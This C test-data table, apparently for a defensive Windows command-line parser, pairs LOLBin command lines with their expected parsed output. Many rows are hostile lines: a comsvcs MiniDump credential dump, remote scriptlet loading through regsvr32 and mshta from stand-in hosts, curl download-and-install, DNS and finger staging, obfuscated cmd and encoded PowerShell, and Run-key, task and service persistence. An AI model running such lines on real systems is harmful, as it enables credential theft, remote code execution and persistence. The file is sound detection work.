/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Rows of test_windows_command.c: line, recorded image (or NULL), what parsing shows: program,
 * /switch=value, T:target, C:module!export@ordinal, A:arguments, N:<nested> (n: not verbatim),
 * F:forms and L:line flags in hexadecimal.
 */
static const struct {
    const char *line, *image, *want;
} rows[] = {
    /* rundll32 */
    {"rundll32.exe C:\\Users\\Public\\payload.dll,EntryPoint", NULL,
     "rundll32.exe T:C:\\Users\\Public\\payload.dll C:payload!EntryPoint"},
    {"rundll32 C:\\Users\\Public\\payload.dll EntryPoint one two", NULL,
     "rundll32.exe T:C:\\Users\\Public\\payload.dll C:payload!EntryPoint A:one two"},
    {"rundll32.exe \"C:\\A B\\x.dll\" , Run arg", NULL,
     "rundll32.exe T:C:\\A B\\x.dll C:x!Run A:arg"},
    {"rundll32.exe \"C:\\A B\\x.dll\",#+0012 arg", NULL,
     "rundll32.exe T:C:\\A B\\x.dll C:x!#+0012@12 A:arg F:30"},
    {"rundll32.exe comsvcs.dll #65560 728 C:\\x.dmp full", NULL,
     "rundll32.exe T:comsvcs.dll C:comsvcs!#65560@24 A:728 C:\\x.dmp full F:30"},
    {"rundll32.exe x.dll,#-65524", NULL, "rundll32.exe T:x.dll C:x!#-65524@12 F:30"},
    {"rundll32.exe x.dll,#", NULL, "rundll32.exe T:x.dll C:x!#"},
    {"rundll32.exe keymgr,KRShowKeyMgr", NULL, "rundll32.exe T:keymgr.dll C:keymgr!KRShowKeyMgr"},
    {"rundll32.exe C:\\x\\evil", NULL, "rundll32.exe T:C:\\x\\evil.dll C:evil! F:8"},
    {"rundll32.exe C:\\x\\evil.,Run", NULL, "rundll32.exe T:C:\\x\\evil C:evil!Run"},
    {"rundll32.exe C:\\Users\\Public\\a.jpg", NULL,
     "rundll32.exe T:C:\\Users\\Public\\a.jpg C:a! F:8"},
    {"rundll32.exe C:\\Users\\Public\\a.dll,", NULL,
     "rundll32.exe T:C:\\Users\\Public\\a.dll C:a! F:8"},
    {"rundll32.exe", NULL, "rundll32.exe F:1"},
    {"\"C:\\Windows\\System32\\RUNDLL32.EXE\" -localserver {B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}",
     NULL, "rundll32.exe T:{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7} F:4"},
    {"rundll32.exe -sta {B5F8350B-0548-48B1-A6EE-88BD00B4A5E7} x", NULL,
     "rundll32.exe T:{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7} F:4"},
    {"rundll32.exe /d srrstr.dll,ExecuteScheduledSPPCreation", NULL,
     "rundll32.exe T:srrstr.dll C:srrstr!ExecuteScheduledSPPCreation"},
    {"rundll32.exe shell32.dll,Control_RunDLL,C:\\Users\\Public\\a.cpl", NULL,
     "rundll32.exe T:shell32.dll C:shell32!Control_RunDLL A:C:\\Users\\Public\\a.cpl"},
    {"rundll32.exe advpack.dll,LaunchINFSection "
     "C:\\Users\\Public\\x.inf,DefaultInstall_SingleUser,1,",
     NULL,
     "rundll32.exe T:advpack.dll C:advpack!LaunchINFSection "
     "A:C:\\Users\\Public\\x.inf,DefaultInstall_SingleUser,1,"},
    {"rundll32 advpack.dll, RegisterOCX \"cmd.exe /c calc.exe\"", NULL,
     "rundll32.exe T:advpack.dll C:advpack!RegisterOCX A:\"cmd.exe /c calc.exe\""},
    {"rundll32 vbscript:\"\\..\\mshtml,#135 "
     "\"+String(CreateObject(\"WScript.Shell\").Run(\"calc.exe\"),0)",
     NULL,
     "rundll32.exe T:vbscript:\"\\..\\mshtml,#135 "
     "\"+String(CreateObject(\"WScript.Shell\").Run(\"calc.exe\"),0) C:mshtml!#135@135 "
     "A:\"+String(CreateObject(\"WScript.Shell\").Run(\"calc.exe\"),0) F:12"},
    {"rundll32.exe \"C:\\x\\..\\mshtml\",RunHTMLApplication", NULL,
     "rundll32.exe T:C:\\mshtml.dll C:mshtml!RunHTMLApplication F:2"},
    {"rundll32 \"C:\\Users\\Public\\notes.txt:ADSDLL.dll\",DllMain", NULL,
     "rundll32.exe T:C:\\Users\\Public\\notes.txt:ADSDLL.dll C:notes!DllMain"},
    {"rundll32.exe url.dll,OpenURL file://^C^:^/^W^i^n^d^o^w^s^/^s^y^s^t^e^m^3^2^/^c^a^l^c^.^e^x^e",
     NULL,
     "rundll32.exe T:url.dll C:url!OpenURL "
     "A:file://^C^:^/^W^i^n^d^o^w^s^/^s^y^s^t^e^m^3^2^/^c^a^l^c^.^e^x^e L:10"},
    {"rundll32.exe \\\\files.example.org@SSL\\DavWWWRoot\\docs\\viewer.dll,Show", NULL,
     "rundll32.exe T:\\\\files.example.org@SSL\\DavWWWRoot\\docs\\viewer.dll C:viewer!Show"},
    {"rundll32.exe %TEMP%\\a.dll,Run", NULL,
     "rundll32.exe T:C:\\Users\\<user>\\AppData\\Local\\Temp\\a.dll C:a!Run"},
    {"rundll32.exe \"C:\\Users\\Public\\x.dll,Run", NULL,
     "rundll32.exe T:C:\\Users\\Public\\x.dll C:x!Run"},
    /* regsvr32 */
    {"regsvr32.exe /s\302\255ilent /u# C:\\Users\\Public\\a.dll", NULL,
     "regsvr32.exe /s /u T:C:\\Users\\Public\\a.dll L:4"},
    {"regsvr32.exe \342\200\223s /i:\"C:\\A B\\c.sct\" scrobj.dll", NULL,
     "regsvr32.exe /s /i=C:\\A B\\c.sct T:scrobj.dll L:4"},
    {"regsvr32.exe \357\274\217s C:\\x\\a.dll", NULL, "regsvr32.exe /s T:C:\\x\\a.dll L:4"},
    {"regsvr32.exe /s C:\\x\\a.dll C:\\x\\b.ocx", NULL, "regsvr32.exe /s T:C:\\x\\b.ocx"},
    {"regsvr32.exe \"/s\" /n \"/i:http://h.example/a.sct\" scrobj", NULL,
     "regsvr32.exe /s /n /i=http://h.example/a.sct T:scrobj"},
    {"regsvr32.exe /u /s /n /i:user "
     "\"C:\\Users\\u\\AppData\\Local\\Microsoft\\TeamsMeetingAddin\\1.24.1\\x64\\Microsoft.Teams."
     "AddinLoader.dll\"",
     NULL,
     "regsvr32.exe /u /s /n /i=user "
     "T:C:\\Users\\u\\AppData\\Local\\Microsoft\\TeamsMeetingAddin\\1.24.1\\x64\\Microsoft.Teams."
     "AddinLoader.dll"},
    {"reg\"svr32\".exe /s C:\\Users\\Public\\file.dll", NULL,
     "regsvr32.exe /s T:C:\\Users\\Public\\file.dll L:8"},
    {"regsvr32.exe /s C:\\Us\"er\"s\\Public\\file.dll", NULL,
     "regsvr32.exe /s T:C:\\Users\\Public\\file.dll L:8"},
    /* mshta */
    {"mshta.exe https://files.example.org/page", NULL,
     "mshta.exe T:https://files.example.org/page"},
    {"\"C:\\Windows\\system32\\mshta.exe\" "
     "\"C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start "
     "Menu\\Programs\\Startup\\T1218.005.hta\"",
     NULL,
     "mshta.exe T:C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start "
     "Menu\\Programs\\Startup\\T1218.005.hta"},
    {"mshta.exe \"C:\\Users\\u\\x y.hta\" "
     "{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}",
     NULL, "mshta.exe T:C:\\Users\\u\\x y.hta"},
    {"mshta.exe C:\\Users\\u\\My Stuff\\x.hta arg one", NULL,
     "mshta.exe T:C:\\Users\\u\\My Stuff\\x.hta"},
    {"\"C:\\Windows\\System32\\mshta.exe\" https://files.example.org/view   # "
     "C:\\Users\\alice\\Documents\\Policy.docx",
     NULL, "mshta.exe T:https://files.example.org/view L:200"},
    {"mshta vbscript:Close(Execute(\"GetObject(\"\"script:https://h.example/a.sct\"\")\"))", NULL,
     "mshta.exe T:vbscript:Close(Execute(\"GetObject(\"\"script:https://h.example/a.sct\"\")\")) "
     "F:2"},
    {"mshta.exe \"javascript:alert('x');close()\"", NULL,
     "mshta.exe T:javascript:alert('x');close() F:2"},
    {"mshta.exe \\\\fs01\\share\\a.hta", NULL, "mshta.exe T:\\\\fs01\\share\\a.hta"},
    {"mshta.exe file:///C:/a%20b/c.hta", NULL, "mshta.exe T:C:\\a b\\c.hta"},
    {"mshta.exe https:\\\\h.example\\x.hta", NULL, "mshta.exe T:https://h.example/x.hta"},
    {"mshta.exe https://files.example.org/fix                                # \342\234\205 I am "
     "not a robot",
     NULL, "mshta.exe T:https://files.example.org/fix L:280"},
    /* cmstp */
    {"cmstp.exe /ni /s C:\\Users\\alice\\AppData\\Local\\Temp\\corp.inf", NULL,
     "cmstp.exe /ni /s T:C:\\Users\\alice\\AppData\\Local\\Temp\\corp.inf"},
    {"cmstp.exe contoso.inf /s /su", NULL, "cmstp.exe /s /su T:contoso.inf"},
    {"cmstp.exe /\313\242 C:\\Users\\Public\\a.inf", NULL,
     "cmstp.exe /s T:C:\\Users\\Public\\a.inf L:4"},
    {"cmstp /s\342\201\262 C:/Users//Public/../Public/a.txt", NULL,
     "cmstp.exe /s T:C:\\Users\\Public\\a.txt L:4"},
    /* msiexec */
    {"msiexec /i \\\\corp.example\\SYSVOL\\corp.example\\pkg\\tool.msi /qb", NULL,
     "msiexec.exe /i=\\\\corp.example\\SYSVOL\\corp.example\\pkg\\tool.msi /qb "
     "T:\\\\corp.example\\SYSVOL\\corp.example\\pkg\\tool.msi"},
    {"MsiExec.exe /I{AC76BA86-7AD7-FFFF-7B44-AC0F074E4100}", NULL,
     "msiexec.exe /i={AC76BA86-7AD7-FFFF-7B44-AC0F074E4100} "
     "T:{AC76BA86-7AD7-FFFF-7B44-AC0F074E4100}"},
    {"msiexec.exe /x {90160000-008C-0000-1000-0000000FF1CE} /qn REBOOT=ReallySuppress", NULL,
     "msiexec.exe /x={90160000-008C-0000-1000-0000000FF1CE} /q "
     "T:{90160000-008C-0000-1000-0000000FF1CE}"},
    {"msiexec /norestart /quiet /package \"C:\\A B\\x.msi\" TARGETDIR=\"C:\\x y\" /l*v C:\\x.log",
     NULL, "msiexec.exe /norestart /q /i=C:\\A B\\x.msi /l=C:\\x.log T:C:\\A B\\x.msi"},
    {"msiexec /q /i https:\\\\h.example\\a\\..\\b.png", NULL,
     "msiexec.exe /q /i=https:\\\\h.example\\a\\..\\b.png T:https://h.example/b.png"},
    {"msiexec /fa C:\\x\\y.msi", NULL, "msiexec.exe /f=C:\\x\\y.msi"},
    {"msiexec /y\"C:\\A\\bin\\MSIRunner.dll\"", NULL,
     "msiexec.exe /y=C:\\A\\bin\\MSIRunner.dll T:C:\\A\\bin\\MSIRunner.dll"},
    {"msiexec /\"i\" C:\\x.msi", NULL, "msiexec.exe T:C:\\x.msi L:8"},
    {"msiexec.exe /\342\201\261 C:\\Users\\Public\\x.msi \357\274\217qn", NULL,
     "msiexec.exe /i=C:\\Users\\Public\\x.msi /q T:C:\\Users\\Public\\x.msi L:4"},
    {"C:\\Windows\\System32\\msiexec.exe /V", NULL, "msiexec.exe /v F:40"},
    {"C:\\Windows\\System32\\MsiExec.exe -Embedding 7D1C22A0B6F34E11A2B3C4D5E6F70812", NULL,
     "msiexec.exe F:84"},
    {"msiexec.exe /@ \"C3A1F0\"", NULL, "msiexec.exe /@=C3A1F0"},
    /* control hh */
    {"control.exe \"C:\\AtomicRedTeam\\atomics\\T1218.002\\bin\\calc.cpl\"", NULL,
     "control.exe T:C:\\AtomicRedTeam\\atomics\\T1218.002\\bin\\calc.cpl"},
    {"control.exe C:\\Users\\Public\\panel.cpl,@0,3", NULL,
     "control.exe T:C:\\Users\\Public\\panel.cpl"},
    {"control.exe /name Microsoft.NetworkAndSharingCenter", NULL,
     "control.exe /name=Microsoft.NetworkAndSharingCenter"},
    {"control.exe C:\\Users\\Public\\notes.txt:evil.cpl", NULL,
     "control.exe T:C:\\Users\\Public\\notes.txt:evil.cpl"},
    {"control.exe ports", NULL, "control.exe T:ports"},
    {"hh.exe -decompile C:\\Users\\Public\\out C:\\Users\\Public\\a.chm", NULL,
     "hh.exe /decompile=C:\\Users\\Public\\out T:C:\\Users\\Public\\a.chm"},
    {"HH.exe https://files.example.org/run.bat", NULL,
     "hh.exe T:https://files.example.org/run.bat"},
    {"hh.exe mk:@MSITStore:C:\\Users\\Public\\a.chm::/page.htm", NULL,
     "hh.exe T:C:\\Users\\Public\\a.chm"},
    {"hh.exe \"C:\\Program Files\\Wireshark\\user-guide.chm\"", NULL,
     "hh.exe T:C:\\Program Files\\Wireshark\\user-guide.chm"},
    /* .NET */
    {"InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\AllTheThings.dll", NULL,
     "installutil.exe /logfile= /logtoconsole=false /u T:C:\\Users\\Public\\AllTheThings.dll"},
    {"InstallUtil.exe \"/log\"file=C:\\x.log \"C:\\A B\\svc.exe\"", NULL,
     "installutil.exe /logfile=C:\\x.log T:C:\\A B\\svc.exe L:8"},
    {"RegAsm.exe \"C:\\Program Files\\Contoso\\addin.dll\" /codebase /tlb:x.tlb", NULL,
     "regasm.exe /codebase /tlb=x.tlb T:C:\\Program Files\\Contoso\\addin.dll"},
    {"regsvcs.exe -appname:x C:\\Users\\Public\\AllTheThingsx64.dll", NULL,
     "regsvcs.exe /appname=x T:C:\\Users\\Public\\AllTheThingsx64.dll"},
    /* odbcconf */
    {"odbcconf /a {REGSVR C:\\Users\\Public\\file.dll}", NULL,
     "odbcconf.exe /a /regsvr=C:\\Users\\Public\\file.dll T:C:\\Users\\Public\\file.dll"},
    {"odbcconf -f C:\\Users\\Public\\file.rsp", NULL,
     "odbcconf.exe /f=C:\\Users\\Public\\file.rsp T:C:\\Users\\Public\\file.rsp"},
    {"odbcconf.exe regsvr C:\\x\\a.txt", NULL, "odbcconf.exe /regsvr=C:\\x\\a.txt T:C:\\x\\a.txt"},
    {"odbcconf.exe CONFIGSYSDSN \"ODBC Driver 17 for SQL Server\" \"DSN=HR|Server=sql02\"", NULL,
     "odbcconf.exe /configsysdsn T:ODBC Driver 17 for SQL Server"},
    /* mavinject verclsid mmc */
    {"mavinject.exe 1000 /INJECTRUNNING \"C:\\AtomicRedTeam\\atomics\\T1218\\src\\x64\\T1218.dll\"",
     NULL,
     "mavinject.exe /injectrunning=C:\\AtomicRedTeam\\atomics\\T1218\\src\\x64\\T1218.dll "
     "T:C:\\AtomicRedTeam\\atomics\\T1218\\src\\x64\\T1218.dll"},
    {"mavinject.exe 5284 /HMODULE=0x7ff0 C:\\x\\y.dll 2", NULL,
     "mavinject.exe /hmodule=0x7ff0 T:5284"},
    {"verclsid.exe /S /C {5E941D80-BF96-11CD-B579-08002B30BFEB}", NULL,
     "verclsid.exe /s /c={5E941D80-BF96-11CD-B579-08002B30BFEB} "
     "T:{5E941D80-BF96-11CD-B579-08002B30BFEB}"},
    {"verclsid.exe /S /C {20D04FE0-3AEA-1069-A2D8-08002B30309D} /I "
     "{000214E6-0000-0000-C000-000000000046} /X 0x401",
     NULL,
     "verclsid.exe /s /c={20D04FE0-3AEA-1069-A2D8-08002B30309D} "
     "/i={000214E6-0000-0000-C000-000000000046} /x=0x401 T:{20D04FE0-3AEA-1069-A2D8-08002B30309D}"},
    {"mmc.exe C:\\Windows\\System32\\services.msc /s", NULL,
     "mmc.exe T:C:\\Windows\\System32\\services.msc"},
    {"mmc.exe services.msc", NULL, "mmc.exe T:services.msc"},
    {"mmc.exe -Embedding C:\\Users\\Public\\console.msc", NULL,
     "mmc.exe /embedding T:C:\\Users\\Public\\console.msc F:84"},
    /* conhost: a handle is no file */
    {"conhost.exe 0x4 cmd.exe", NULL, "conhost.exe"},
    {"conhost.exe --headless 0x4x.exe", NULL, "conhost.exe /headless T:0x4x.exe N:<0x4x.exe>"},
    /* wmic */
    {"wmic.exe process call create \"rundll32.exe C:\\Users\\Public\\a.dll,Run\"", NULL,
     "wmic.exe /create=rundll32.exe C:\\Users\\Public\\a.dll,Run T:rundll32.exe "
     "C:\\Users\\Public\\a.dll,Run N:<rundll32.exe C:\\Users\\Public\\a.dll,Run>"},
    {"wmic /node:\"pc1\",\"pc2\" process get brief /format:\"https://files.example.org/style.xsl\"",
     NULL,
     "wmic.exe /node=pc1,pc2 /format=https://files.example.org/style.xsl "
     "T:https://files.example.org/style.xsl"},
    {"wmic process call create \"cmd /c \\\"C:\\A B\\x.exe\\\" /s\",\"C:\\Temp\"", NULL,
     "wmic.exe /create=cmd /c \"C:\\A B\\x.exe\" /s,C:\\Temp T:cmd \\c \"C:\\A B\\x.exe\" "
     "\\s,C:\\Temp n:<cmd /c \"C:\\A B\\x.exe\" /s>"},
    {"wmic process call create calc.exe", NULL,
     "wmic.exe /create=calc.exe T:calc.exe N:<calc.exe>"},
    /* electron */
    {"\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --disable-gpu-sandbox "
     "\"--gpu-launcher=C:\\\\Windows\\\\System32\\\\calc.exe &&\"",
     NULL,
     "msedge.exe /disable-gpu-sandbox /gpu-launcher=C:\\\\Windows\\\\System32\\\\calc.exe && "
     "T:C:\\Windows\\System32\\calc.exe &&"},
    {"msedge.exe --disable-gpu-sandbox --gpu-launcher=\"cmd /c calc.exe &&\"", NULL,
     "msedge.exe /disable-gpu-sandbox /gpu-launcher=cmd /c calc.exe && T:cmd \\c calc.exe &&"},
    /* cmd */
    {"cmd.exe /c \"net use P: \\\\print01\\setup && P:\\setup.exe /s\"", NULL,
     "cmd.exe /c N:<net use P: \\\\print01\\setup> N:<P:\\setup.exe /s>"},
    {"cmd.exe /c curl -sko %TEMP%\\upd.msi https://files.example.org/upd.msi && msiexec /i "
     "%TEMP%\\upd.msi /qn",
     NULL,
     "cmd.exe /c N:<curl -sko %TEMP%\\upd.msi https://files.example.org/upd.msi> N:<msiexec /i "
     "%TEMP%\\upd.msi /qn>"},
    {"C:\\Windows\\system32\\cmd.exe /d /c \"C:\\Program Files\\Contoso\\host.exe\" "
     "chrome-extension://abcdefghijklmnop/ --parent-window=0 < "
     "\\\\.\\pipe\\chrome.nativeMessaging.in.1a2b > \\\\.\\pipe\\chrome.nativeMessaging.out.1a2b",
     NULL,
     "cmd.exe /d /c N:<\"C:\\Program Files\\Contoso\\host.exe\" "
     "chrome-extension://abcdefghijklmnop/ --parent-window=0>"},
    {"cmd /c r^u^nd\"ll\"32 C:\\Users\\Public\\a.dll,Run > nul 2>&1", NULL,
     "cmd.exe /c n:<rund\"ll\"32 C:\\Users\\Public\\a.dll,Run>"},
    {"cmd /c ;,rundll32;,C:\\Users\\Public\\a.dll,Run", NULL,
     "cmd.exe /c n:<rundll32 C:\\Users\\Public\\a.dll,Run>"},
    {"cmd /c my;file.txt", NULL, "cmd.exe /c N:<my;file.txt>"},
    {"cmd /c start \"\" /min /d C:\\x mshta https://h.example/a & echo done", NULL,
     "cmd.exe /c N:<mshta https://h.example/a> in:C:\\x N:<echo done>"},
    {"cmd.exe /c for /f \"tokens=2 delims==\" %i in ('nslookup -q^=txt step1.files.example.org "
     "203.0.113.53') do cmd /c %i",
     NULL, "cmd.exe /c n:<nslookup -q=txt step1.files.example.org 203.0.113.53> n:<cmd /c %i>"},
    {"cmd /c if exist C:\\x.txt (regsvr32 /s C:\\x\\a.dll) else (mshta C:\\x\\a.hta)", NULL,
     "cmd.exe /c N:<regsvr32 /s C:\\x\\a.dll> N:<mshta C:\\x\\a.hta>"},
    {"cmd /c set x=msh&&set y=ta&&call %x%%y% https://h.example/a", NULL,
     "cmd.exe /c n:<mshta https://h.example/a>"},
    {"cmd /c %ComSpec:~-7,1%md /c \"%PUBLIC:~6,1%undll32 C:\\x\\a.dll,Run\"", NULL,
     "cmd.exe /c n:<cmd /c \"rundll32 C:\\x\\a.dll,Run\"> L:20"},
    {"cmd /V:ON/C\"set a=regXsvr32&&!a:X=! /s C:\\x\\a.dll\"", NULL,
     "cmd.exe n:<regsvr32 /s C:\\x\\a.dll> L:20"},
    {"cmd /c \"\"C:\\A B\\x.exe\" \"y z\" > \"C:\\log file.txt\"\"", NULL,
     "cmd.exe /c N:<\"C:\\A B\\x.exe\" \"y z\">"},
    {"cmd /c finger ray@files.example.org | cmd", NULL,
     "cmd.exe /c N:<finger ray@files.example.org> N:<cmd>"},
    {"cmd /c @echo off & (mshta C:\\a.hta & mshta C:\\b.hta)", NULL,
     "cmd.exe /c N:<echo off> N:<mshta C:\\a.hta> N:<mshta C:\\b.hta>"},
    {"cmd.exe /k", NULL, "cmd.exe /k"},
    {"cmd.exe /c rundll32.exe C:\\x\\a.dll,Run 2>nul arg", NULL,
     "cmd.exe /c n:<rundll32.exe C:\\x\\a.dll,Run  arg>"},
    /* powershell */
    {"powershell -nop -w hidden -c \"rundll32.exe C:\\Users\\Public\\a.dll,Run\"", NULL,
     "powershell.exe /noprofile /windowstyle=hidden /command N:<rundll32.exe "
     "C:\\Users\\Public\\a.dll,Run>"},
    {"powershell.exe -Command Start-Process mshta.exe -ArgumentList 'https://h.example/a' "
     "-WindowStyle Hidden",
     NULL,
     "powershell.exe /command N:<Start-Process mshta.exe -ArgumentList 'https://h.example/a' "
     "-WindowStyle Hidden> n:<mshta.exe https://h.example/a>"},
    {"powershell -enc "
     "cgB1AG4AZABsAGwAMwAyACAAQwA6AFwAVQBzAGUAcgBzAFwAUAB1AGIAbABpAGMAXABhAC4AZABsAGwALABSAHUAbgA=",
     NULL,
     "powershell.exe "
     "/encodedcommand="
     "cgB1AG4AZABsAGwAMwAyACAAQwA6AFwAVQBzAGUAcgBzAFwAUAB1AGIAbABpAGMAXABhAC4AZABsAGwALABSAHUAbgA= "
     "n:<rundll32 C:\\Users\\Public\\a.dll,Run>"},
    {"powershell -e !!!", NULL, "powershell.exe /encodedcommand=!!! L:400"},
    {"powershell \"& 'C:\\Windows\\System32\\msh'+'ta.exe' 'https://h.example/a'; Get-Date | cmd "
     "/c whoami\"",
     NULL,
     "powershell.exe N:<& 'C:\\Windows\\System32\\msh'+'ta.exe' 'https://h.example/a'; Get-Date | "
     "cmd /c whoami> n:<C:\\Windows\\System32\\mshta.exe https://h.example/a> N:<cmd /c "
     "whoami>"},
    {"powershell -File C:\\x.ps1 -c foo", NULL, "powershell.exe /file=C:\\x.ps1"},
    {"powershell \342\200\223nop \342\200\223c reg`svr32 /s C:\\x\\a.dll", NULL,
     "powershell.exe /noprofile /command N:<reg`svr32 /s C:\\x\\a.dll> n:<regsvr32 /s "
     "C:\\x\\a.dll> L:4"},
    {"powershell iex 'mshta https://h.example/a'", NULL,
     "powershell.exe N:<iex 'mshta https://h.example/a'> n:<mshta https://h.example/a>"},
    /* other launchers */
    {"powershell \"& (\\\"{1}{0}\\\" -f 'ta','msh') https://h.example/a\"", NULL,
     "powershell.exe n:<& (\"{1}{0}\" -f 'ta','msh') https://h.example/a> n:<mshta "
     "https://h.example/a>"},
    {"powershell -c \"& ('msh'+'ta') 'https://h.example/a'\"", NULL,
     "powershell.exe /command N:<& ('msh'+'ta') 'https://h.example/a'> n:<mshta "
     "https://h.example/a>"},
    /* copies that a line makes and runs */
    {"cmd /c copy /y C:\\Windows\\System32\\mshta.exe \"%TEMP%\\a b.exe\" >nul & \"%TEMP%\\a "
     "b.exe\" x",
     NULL,
     "cmd.exe /c N:<copy /y C:\\Windows\\System32\\mshta.exe \"%TEMP%\\a b.exe\"> "
     "N:<\"%TEMP%\\a b.exe\" x> of:mshta.exe"},
    {"cmd /c copy mshta.exe b.exe & c x & b x", NULL,
     "cmd.exe /c N:<copy mshta.exe b.exe> N:<c x> N:<b x> of:mshta.exe"},
    {"cmd /c b x & copy mshta.exe b.exe", NULL, "cmd.exe /c N:<b x> N:<copy mshta.exe b.exe>"},
    {"cmd /c copy notes.txt b.exe & b x", NULL, "cmd.exe /c N:<copy notes.txt b.exe> N:<b x>"},
    /* where a line goes before it starts something */
    {"cmd /c cd /d C:\\Program Files\\A & b x", NULL, "cmd.exe /c N:<b x> in:C:\\Program Files\\A"},
    {"cmd /c a & cd C:\\T & cd \"s u\" & b & cd .. & c", NULL,
     "cmd.exe /c N:<a> N:<b> in:C:\\T\\s u N:<c> in:C:\\T"},
    {"cmd /c pushd \\\\h\\s & b & popd & c", NULL,
     "cmd.exe /c N:<pushd \\\\h\\s> in:\\\\h\\s N:<b> in:\\\\h\\s N:<c>"},
    {"cmd /c cd sub & b", NULL, "cmd.exe /c N:<b>"},
    /* what is behind a launcher's own options */
    {"psexec.exe \\\\h -u a -p b -s -d rundll32 C:\\T\\a.dll,R", NULL,
     "psexec.exe N:<rundll32 C:\\T\\a.dll,R>"},
    {"winrs -r:h rundll32 a.dll,R", NULL, "winrs.exe N:<rundll32 a.dll,R>"},
    {"runas /user:a \"mmc b.msc\"", NULL, "runas.exe N:<mmc b.msc>"},
    {"runas /user:a", NULL, "runas.exe"},
    {"wsl -e /mnt/c/W/mshta.exe h", NULL, "wsl.exe n:<c:/W/mshta.exe h>"},
    {"bash -c \"a.exe b\" x", NULL, "bash.exe N:<a.exe b>"},
    {"wsl -e make a", NULL, "wsl.exe"},
    {"wsl /mnt/.exe", NULL, "wsl.exe N:</mnt/.exe>"},
    {"ssh -o ProxyCommand=\"mshta a\" h", NULL, "ssh.exe n:<mshta a>"},
    {"scriptrunner -appvscript a b", NULL, "scriptrunner.exe N:<a b>"},
    {"powershell -c \"cd C:\\T; regsvr32 b.dll\"", NULL,
     "powershell.exe /command N:<cd C:\\T; regsvr32 b.dll> N:<regsvr32 b.dll> in:C:\\T"},
    /* calls that start a program, or write down what is to be started */
    {"powershell [Diagnostics.Process]::Start('mshta','https://h.example/a')", NULL,
     "powershell.exe N:<[Diagnostics.Process]::Start('mshta','https://h.example/a')> n:<mshta "
     "https://h.example/a>"},
    {"powershell -c $x=New-ScheduledTaskAction -Execute 'C:\\a b\\c.exe' -Argument '/x y'", NULL,
     "powershell.exe /command N:<$x=New-ScheduledTaskAction -Execute 'C:\\a b\\c.exe' -Argument "
     "'/x y'> "
     "n:<\"C:\\a b\\c.exe\" /x y>"},
    {"powershell -c (New-Object -ComObject WScript.Shell).Run('mshta a',0)", NULL,
     "powershell.exe /command N:<(New-Object -ComObject WScript.Shell).Run('mshta a',0)> n:<mshta "
     "a>"},
    {"powershell -c icim -ClassName Win32_Process -Method Create -Arg @{CommandLine='mshta a'}",
     NULL,
     "powershell.exe /command N:<icim -ClassName Win32_Process -Method Create -Arg "
     "@{CommandLine='mshta a'}> n:<mshta a>"},
    {"powershell ([wmiclass]'Win32_Process').Create('mshta a')", NULL,
     "powershell.exe N:<([wmiclass]'Win32_Process').Create('mshta a')> n:<mshta a>"},
    {"powershell [IO.File]::Create('mshta a')", NULL,
     "powershell.exe N:<[IO.File]::Create('mshta a')>"},
    {"powershell sp HKCU:\\a -Name b -Value 'rundll32 a.dll,b'", NULL,
     "powershell.exe N:<sp HKCU:\\a -Name b -Value 'rundll32 a.dll,b'> n:<rundll32 a.dll,b>"},
    {"powershell -c saps regsvr32.exe -a '/s','C:\\x\\a.dll'\"", NULL,
     "powershell.exe /command n:<saps regsvr32.exe -a '/s','C:\\x\\a.dll'> n:<regsvr32.exe /s "
     "C:\\x\\a.dll>"},
    {"mshta.exe", NULL, "mshta.exe F:1"},
    {"schtasks /create /tn x /tr \"rundll32 C:\\Users\\Public\\a.dll,Run\" /sc onlogon", NULL,
     "schtasks.exe N:<rundll32 C:\\Users\\Public\\a.dll,Run>"},
    {"schtasks /create /tn x /tr \"\\\"C:\\A B\\x.exe\\\" /s\" /sc daily", NULL,
     "schtasks.exe n:<\"C:\\A B\\x.exe\" /s>"},
    {"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /t REG_SZ /d \"mshta "
     "https://h.example/a\" /f",
     NULL, "reg.exe N:<mshta https://h.example/a>"},
    {"sc create svc binPath= \"cmd /c regsvr32 /s C:\\x\\a.dll\" start= auto", NULL,
     "sc.exe N:<cmd /c regsvr32 /s C:\\x\\a.dll>"},
    {"sc create svc binPath=\"C:\\x\\y.exe -k\"", NULL, "sc.exe n:<C:\\x\\y.exe -k>"},
    {"forfiles /p C:\\Windows\\System32 /m notepad.exe /c \"cmd /c mshta https://h.example/a\"",
     NULL, "forfiles.exe N:<cmd /c mshta https://h.example/a>"},
    {"forfiles /c \"0x22C:\\A B\\x.exe0x22 /s\"", NULL, "forfiles.exe n:<\"C:\\A B\\x.exe\" /s>"},
    {"pcalua.exe -a C:\\Users\\Public\\x.exe -c \"/s y\"", NULL,
     "pcalua.exe n:<C:\\Users\\Public\\x.exe /s y>"},
    {"bitsadmin /SetNotifyCmdLine job C:\\Windows\\System32\\regsvr32.exe \"regsvr32.exe /s "
     "C:\\x\\a.dll\"",
     NULL, "bitsadmin.exe N:<regsvr32.exe /s C:\\x\\a.dll>"},
    {"conhost.exe --headless mshta.exe https://files.example.org/a", NULL,
     "conhost.exe /headless T:mshta.exe N:<mshta.exe https://files.example.org/a>"},
    {"\\\?\?\\C:\\Windows\\system32\\conhost.exe --headless --width 120 --height 30 --signal 0x2c8 "
     "--server 0x2b4",
     NULL, "conhost.exe /headless /width=120 /height=30 /signal=0x2c8 /server=0x2b4"},
    {"\\\?\?\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", NULL,
     "conhost.exe /forcev1"},
    /* line flags and argv0 */
    {"C:\\Program Files\\Internet Explorer\\iexplore.exe -k http://h.example", NULL,
     "iexplore.exe"},
    {"regsvr32.exe /s C:\\x\\\342\200\256lld.a.dll", NULL,
     "regsvr32.exe /s T:C:\\x\\\342\200\256lld.a.dll L:40"},
    {"regsvr32.exe /s                    C:\\x\\a.dll", NULL,
     "regsvr32.exe /s T:C:\\x\\a.dll L:80"},
    {"unknown.exe /foo bar -x:C:\\y --z=1 C:\\q\\r.dll", NULL, "unknown.exe"},
    {"\"C:\\Windows\\System32\\rundll32.exe", NULL, "rundll32.exe F:1"},
